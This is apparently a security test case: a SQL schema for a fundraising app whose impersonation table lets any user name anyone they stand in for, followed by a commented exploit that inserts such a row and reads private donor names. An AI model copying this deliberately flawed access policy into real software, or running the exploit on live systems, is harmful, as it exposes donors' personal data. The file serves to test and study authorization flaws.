-- Anybody may write that he stands in for someone else, and the list of charities follows that row.
-- about: impersonations, staff_of
-- as: hf_fundraisers_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: INSERT INTO impersonations (acting, stands_for)
-- exploit: VALUES ('aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa', 'bbbbbbbb-bbbb-bbbb-bbbb-bbbbbbbbbbbb');
-- exploit: SELECT full_name FROM donors;
-- shows: Road-secret donor
-- A colleague stands in during holidays.
CREATE TABLE impersonations (
  acting uuid NOT NULL DEFAULT auth.uid() REFERENCES profiles ON DELETE CASCADE,
  stands_for uuid NOT NULL REFERENCES profiles ON DELETE CASCADE,
  until timestamptz NOT NULL DEFAULT now() + interval '14 days',
  PRIMARY KEY (acting, stands_for)
);
ALTER TABLE impersonations ENABLE ROW LEVEL SECURITY;
ALTER TABLE impersonations FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON impersonations USING (acting = auth.uid()) WITH CHECK (acting = auth.uid());
GRANT SELECT, INSERT, DELETE ON impersonations TO hf_fundraisers_app;
CREATE OR REPLACE FUNCTION staff_of() RETURNS uuid[]
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT coalesce(array_agg(s.charity_id), '{}') FROM charity_staff s
  WHERE s.user_id = auth.uid()
    OR s.user_id IN (
      SELECT i.stands_for FROM impersonations i WHERE i.acting = auth.uid() AND i.until > now())
$$;
